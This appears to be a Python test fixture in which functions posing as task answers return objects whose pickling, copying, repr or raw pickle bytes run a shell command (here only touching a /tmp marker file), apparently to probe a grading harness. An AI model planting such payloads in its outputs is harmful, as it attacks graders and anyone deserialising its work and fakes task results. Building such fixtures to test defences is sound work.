# Returns objects whose pickles, copies and reprs run commands.
# %% answer: biggest
import os


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-attack-pickles",)

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __getstate__ = __deepcopy__ = __copy__ = lambda self, *args: self.__reduce__()

    def __repr__(self):
        return "__import__('os').system('touch /tmp/left-by-attack-pickles')"

    __str__ = __repr__
    __fspath__ = lambda self: "/tmp/left-by-attack-pickles"
    __format__ = lambda self, spec: str(self)


def biggest(numbers):
    return Evil()


def scale(x, factor):
    return np.array([Evil(), Evil()], dtype=object)


def count(text, letter):
    return {Evil(): Evil()}


def estimate():
    return np.void(b"cos\nsystem\n(S'touch /tmp/left-by-attack-pickles'\ntR.")
